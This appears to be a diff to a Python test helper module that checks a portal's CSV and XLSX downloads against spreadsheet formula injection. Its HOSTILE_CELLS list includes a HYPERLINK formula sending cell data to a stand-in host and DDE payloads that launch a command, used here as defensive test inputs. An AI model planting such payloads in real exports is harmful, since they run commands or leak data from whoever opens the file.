@@ -53,3 +53,34 @@ def signed_headers(client_id: str, secret: str, method: str, path: str, query: s
         "HTTP_X_NONCE": nonce,
         "HTTP_X_SIGNATURE": sign(secret, method, path, query, ts, nonce, body),
     }
+
+
+# Cell values a spreadsheet would evaluate (or that look close to it): every download is tested with each of them
+# in every column it writes (portal.cells).
+HOSTILE_CELLS = [
+    "=1+1", '=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)",
+    "\t=1", "\r=1", "=cmd|' /C calc'!A0", "-x",
+]
+
+
+def unquoted_csv_cell(field: str) -> str:
+    """The text a CSV field of a download stands for: portal.cells puts one `'` before a formula-like value."""
+    from portal.cells import is_formula_like
+
+    if field.startswith("'") and is_formula_like(field[1:]):
+        return field[1:]
+    assert not is_formula_like(field), f"live formula in a CSV: {field!r}"
+    return field
+
+
+def xlsx_text(value: str) -> str:
+    """The text an XLSX string cell reads back as: XML turns a CR into a LF (openpyxl writes it as it is)."""
+    return value.replace("\r\n", "\n").replace("\r", "\n")
+
+
+def assert_no_formula(book) -> None:
+    """No cell of any sheet of the openpyxl workbook `book` is a formula."""
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
